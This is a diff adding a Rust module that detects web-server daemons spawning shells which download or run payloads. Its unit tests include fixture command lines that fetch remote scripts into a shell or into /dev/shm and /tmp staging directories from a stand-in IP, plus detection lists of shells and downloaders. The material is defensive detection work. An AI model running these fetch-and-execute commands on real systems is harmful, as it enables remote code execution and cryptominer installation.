@@ -0,0 +1,325 @@
+use std::collections::HashMap;
+
+use crate::process_monitor::ProcessInfo;
+use crate::suspicious_paths::is_suspicious_path;
+
+const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ash", "ksh", "busybox"];
+
+const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "tftp", "aria2c", "lwp-download"];
+
+/// A network-facing daemon running a shell at all
+const SHELL_SCORE: f32 = 0.6;
+/// The shell was started by the daemon itself (`system()`/`exec()` from an RCE)
+const DIRECT_SHELL_BOOST: f32 = 0.05;
+const DOWNLOADER_BOOST: f32 = 0.25;
+const STAGED_DOWNLOAD_BOOST: f32 = 0.3;
+const SUSPICIOUS_BINARY_BOOST: f32 = 0.35;
+
+/// What the shell ended up running
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ChainPayload {
+    /// A fetch with nothing showing where it goes (webhooks, update checks): notify only
+    Downloader,
+    /// A download saved into a staging directory
+    StagedDownload,
+    /// A download piped straight into a shell (`curl ... | sh`)
+    PipedToShell,
+    SuspiciousBinary,  // From a staging directory or a memfd
+}
+
+impl ChainPayload {
+    /// Whether the chain shows a payload being staged or run, rather than just a
+    /// fetch; only these are acted on
+    pub fn is_enforceable(&self) -> bool {
+        !matches!(self, ChainPayload::Downloader)
+    }
+
+    pub fn description(&self) -> &'static str {
+        match self {
+            ChainPayload::Downloader => "a downloader",
+            ChainPayload::StagedDownload => "a download into a staging directory",
+            ChainPayload::PipedToShell => "a download piped into a shell",
+            ChainPayload::SuspiciousBinary => "a binary from a staging directory",
+        }
+    }
+}
+
+/// daemon -> ... -> shell -> ... -> leaf, e.g. nginx -> sh -> curl
+#[derive(Debug, Clone)]
+pub struct SpawnChain {
+    pub daemon: ProcessInfo,
+    pub shell: ProcessInfo,
+    pub leaf: ProcessInfo,
+    /// Every process from the leaf up to the daemon, leaf first
+    pub pids: Vec<i32>,
+    pub payload: ChainPayload,
+    pub confidence: f32,
+}
+
+impl SpawnChain {
+    /// Identifies the leaf across cycles, robust to PID reuse
+    pub fn key(&self) -> (i32, u64) {
+        (self.leaf.pid, self.leaf.start_time)
+    }
+
+    /// `nginx (812) -> sh (4410) -> curl (4411)`
+    pub fn describe(&self, by_pid: &HashMap<i32, &ProcessInfo>) -> String {
+        self.pids.iter().rev()
+            .map(|pid| match by_pid.get(pid) {
+                Some(p) => format!("{} ({})", display_name(p), pid),
+                None => format!("? ({})", pid),
+            })
+            .collect::<Vec<_>>()
+            .join(" -> ")
+    }
+}
+
+/// Downloaders and staged binaries whose ancestry runs through a shell up to one of
+/// `daemons` (matched by executable or comm name; `php-fpm` also covers `php-fpm8.2`).
+/// `ancestry` returns a PID followed by its ancestors, as `ProcessMonitor::get_process_tree`
+/// does, and is only consulted for payload candidates.
+pub fn find_spawn_chains(
+    processes: &[ProcessInfo],
+    daemons: &[String],
+    ancestry: impl Fn(i32) -> Vec<i32>,
+) -> Vec<SpawnChain> {
+    let by_pid: HashMap<i32, &ProcessInfo> = processes.iter().map(|p| (p.pid, p)).collect();
+    let mut chains = Vec::new();
+
+    for leaf in processes {
+        let Some(leaf_payload) = payload_kind(leaf) else {
+            continue;
+        };
+        let pids = ancestry(leaf.pid);
+        let mut shell: Option<(usize, &ProcessInfo)> = None;
+        for (depth, pid) in pids.iter().enumerate().skip(1) {
+            let Some(&ancestor) = by_pid.get(pid) else {
+                break;
+            };
+            if is_daemon(ancestor, daemons) {
+                if let Some((shell_depth, shell)) = shell {
+                    let payload = match leaf_payload {
+                        ChainPayload::Downloader => downloader_payload(leaf, shell),
+                        other => other,
+                    };
+                    chains.push(SpawnChain {
+                        daemon: ancestor.clone(),
+                        shell: shell.clone(),
+                        leaf: leaf.clone(),
+                        pids: pids[..=depth].to_vec(),
+                        payload,
+                        confidence: chain_score(payload, shell_depth + 1 == depth),
+                    });
+                }
+                break;
+            }
+            if shell.is_none() && is_shell(ancestor) {
+                shell = Some((depth, ancestor));
+            }
+        }
+    }
+    chains
+}
+
+fn chain_score(payload: ChainPayload, shell_is_direct_child: bool) -> f32 {
+    let payload_boost = match payload {
+        ChainPayload::Downloader => DOWNLOADER_BOOST,
+        ChainPayload::StagedDownload | ChainPayload::PipedToShell => STAGED_DOWNLOAD_BOOST,
+        ChainPayload::SuspiciousBinary => SUSPICIOUS_BINARY_BOOST,
+    };
+    let direct = if shell_is_direct_child { DIRECT_SHELL_BOOST } else { 0.0 };
+    (SHELL_SCORE + payload_boost + direct).min(1.0)
+}
+
+fn payload_kind(process: &ProcessInfo) -> Option<ChainPayload> {
+    if names(process).any(|name| DOWNLOADERS.contains(&name)) {
+        Some(ChainPayload::Downloader)
+    } else if !is_shell(process) && (process.exe_is_memfd || is_suspicious_path(&process.binary_path)) {
+        Some(ChainPayload::SuspiciousBinary)
+    } else {
+        None
+    }
+}
+
+/// Where a downloader's output goes: piped into a shell (the shell's `-c` script) or
+/// written into a staging directory (`-o`/`-O`/`-P` or a shell redirect)
+fn downloader_payload(downloader: &ProcessInfo, shell: &ProcessInfo) -> ChainPayload {
+    let script = &shell.command_line;
+    let piped = script.split('|').skip(1).any(|stage| {
+        stage.split_whitespace()
+            .find(|word| *word != "sudo")
+            .and_then(|word| word.rsplit('/').next())
+            .is_some_and(|name| SHELLS.contains(&name))
+    });
+    if piped {
+        return ChainPayload::PipedToShell;
+    }
+    let staged = output_paths(&downloader.command_line)
+        .chain(redirect_targets(script))
+        .any(is_suspicious_path);
+    if staged {
+        ChainPayload::StagedDownload
+    } else {
+        ChainPayload::Downloader
+    }
+}
+
+/// Output file or directory arguments of curl/wget style downloaders
+fn output_paths(command_line: &str) -> impl Iterator<Item = &str> {
+    const VALUE_FLAGS: &[&str] = &["-o", "-O", "-P", "--output", "--output-document", "--directory-prefix"];
+    let words: Vec<&str> = command_line.split_whitespace().collect();
+    let mut paths = Vec::new();
+    for (i, word) in words.iter().enumerate() {
+        if let Some((flag, value)) = word.split_once('=') {
+            if VALUE_FLAGS.contains(&flag) {
+                paths.push(value);
+            }
+        } else if VALUE_FLAGS.contains(word) {
+            paths.extend(words.get(i + 1));
+        } else if let Some(value) = ["-o", "-O", "-P"].iter().find_map(|flag| word.strip_prefix(flag)) {
+            if value.starts_with('/') {
+                paths.push(value);  // -o/tmp/x
+            }
+        }
+    }
+    paths.into_iter()
+}
+
+/// Files a shell script redirects output into (`> /tmp/x`, `>>/dev/shm/y`)
+fn redirect_targets(script: &str) -> impl Iterator<Item = &str> {
+    script.split('>').skip(1)
+        .filter_map(|rest| rest.trim_start_matches('>').split_whitespace().next())
+        .filter(|target| target.starts_with('/'))
+}
+
+fn is_shell(process: &ProcessInfo) -> bool {
+    names(process).any(|name| SHELLS.contains(&name))
+}
+
+/// Exact name, or the name followed by a version (`php-fpm8.2`, `node18`)
+fn is_daemon(process: &ProcessInfo, daemons: &[String]) -> bool {
+    names(process).any(|name| daemons.iter().any(|daemon| {
+        name.strip_prefix(daemon.as_str())
+            .is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
+    }))
+}
+
+/// Executable basename and comm
+fn names(process: &ProcessInfo) -> impl Iterator<Item = &str> {
+    let basename = process.binary_path.rsplit('/').next().unwrap_or_default();
+    [basename, process.name.as_str()].into_iter().filter(|name| !name.is_empty())
+}
+
+fn display_name(process: &ProcessInfo) -> &str {
+    names(process).next().unwrap_or("?")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn process(pid: i32, ppid: i32, binary_path: &str) -> ProcessInfo {
+        let name = binary_path.rsplit('/').next().unwrap().to_string();
+        ProcessInfo { pid, ppid, binary_path: binary_path.to_string(), name, start_time: 100, ..Default::default() }
+    }
+
+    fn with_command(process: ProcessInfo, command_line: &str) -> ProcessInfo {
+        ProcessInfo { command_line: command_line.to_string(), ..process }
+    }
+
+    /// Same walk as `ProcessMonitor::get_process_tree`, over the fixture
+    fn ancestry(processes: &[ProcessInfo]) -> impl Fn(i32) -> Vec<i32> + '_ {
+        move |pid| {
+            let mut tree = vec![pid];
+            let mut current = pid;
+            while let Some(p) = processes.iter().find(|p| p.pid == current) {
+                if p.ppid == 0 || p.ppid == current {
+                    break;
+                }
+                tree.push(p.ppid);
+                current = p.ppid;
+            }
+            tree
+        }
+    }
+
+    fn daemons() -> Vec<String> {
+        ["nginx", "node", "php-fpm"].iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn flags_web_server_shell_downloader_chains() {
+        let processes = vec![
+            process(1, 0, "/usr/lib/systemd/systemd"),
+            process(800, 1, "/usr/sbin/php-fpm8.2"),
+            process(812, 800, "/usr/sbin/php-fpm8.2"),    // pool worker
+            process(4410, 812, "/usr/bin/dash"),           // system("sh -c 'curl ...'")
+            with_command(process(4411, 4410, "/usr/bin/curl"), "curl -fsSL http://203.0.113.7/x -o /tmp/.x/kdevtmpfsi"),
+            process(900, 1, "/usr/bin/node"),
+            process(5000, 900, "/usr/bin/bash"),
+            process(5001, 5000, "/usr/bin/nohup"),
+            process(5002, 5001, "/tmp/.x/kdevtmpfsi"),    // staged miner, two levels below the shell
+        ];
+        let by_pid: HashMap<i32, &ProcessInfo> = processes.iter().map(|p| (p.pid, p)).collect();
+        let chains = find_spawn_chains(&processes, &daemons(), ancestry(&processes));
+
+        assert_eq!(chains.len(), 2);
+        assert_eq!(chains[0].leaf.pid, 4411);
+        assert_eq!((chains[0].daemon.pid, chains[0].shell.pid), (812, 4410));
+        assert_eq!(chains[0].payload, ChainPayload::StagedDownload);
+        assert!(chains[0].payload.is_enforceable());
+        assert_eq!(chains[0].describe(&by_pid), "php-fpm8.2 (812) -> dash (4410) -> curl (4411)");
+        assert!((chains[0].confidence - 0.95).abs() < 1e-6);
+
+        assert_eq!(chains[1].leaf.pid, 5002);
+        assert_eq!(chains[1].pids, vec![5002, 5001, 5000, 900]);
+        assert_eq!(chains[1].payload, ChainPayload::SuspiciousBinary);
+        assert!(chains[1].confidence > chains[0].confidence);
+    }
+
+    #[test]
+    fn ignores_chains_without_a_daemon_or_a_shell() {
+        let processes = vec![
+            process(1, 0, "/usr/lib/systemd/systemd"),
+            process(200, 1, "/usr/sbin/sshd"),
+            process(210, 200, "/usr/bin/bash"),          // admin shell
+            process(211, 210, "/usr/bin/wget"),
+            process(300, 1, "/usr/sbin/nginx"),
+            process(301, 300, "/usr/bin/curl"),          // no shell in between
+            process(400, 1, "/usr/bin/node"),
+            process(401, 400, "/usr/bin/bash"),
+            process(402, 401, "/usr/bin/git"),           // nothing suspicious run
+            process(500, 1, "/usr/bin/bash"),
+            process(501, 500, "/opt/node_exporter"),     // not "node" followed by a version
+            process(502, 501, "/usr/bin/sh"),
+            process(503, 502, "/usr/bin/curl"),
+        ];
+        assert!(find_spawn_chains(&processes, &daemons(), ancestry(&processes)).is_empty());
+    }
+
+    #[test]
+    fn a_fetch_alone_is_only_reported() {
+        let chain = |shell: &str, curl: &str| {
+            let processes = vec![
+                process(300, 1, "/usr/sbin/nginx"),
+                with_command(process(310, 300, "/usr/bin/sh"), shell),
+                with_command(process(311, 310, "/usr/bin/curl"), curl),
+            ];
+            find_spawn_chains(&processes, &daemons(), ancestry(&processes)).remove(0).payload
+        };
+
+        // A webhook or update check: nothing staged or run
+        let fetch = chain("sh -c curl -s https://api.example.com/ping", "curl -s https://api.example.com/ping");
+        assert_eq!(fetch, ChainPayload::Downloader);
+        assert!(!fetch.is_enforceable());
+        assert_eq!(chain("sh -c curl -o /var/www/cache/feed.xml https://example.com/feed",
+                         "curl -o /var/www/cache/feed.xml https://example.com/feed"), ChainPayload::Downloader);
+
+        assert_eq!(chain("sh -c curl -fsSL http://203.0.113.7/i.sh | sudo bash", "curl -fsSL http://203.0.113.7/i.sh"),
+                   ChainPayload::PipedToShell);
+        assert_eq!(chain("sh -c wget -q http://203.0.113.7/x >/dev/shm/x; chmod +x /dev/shm/x", "wget -q http://203.0.113.7/x"),
+                   ChainPayload::StagedDownload);
+        assert_eq!(chain("sh -c wget -P /var/tmp/.cache http://203.0.113.7/x", "wget -P /var/tmp/.cache http://203.0.113.7/x"),
+                   ChainPayload::StagedDownload);
+    }
+}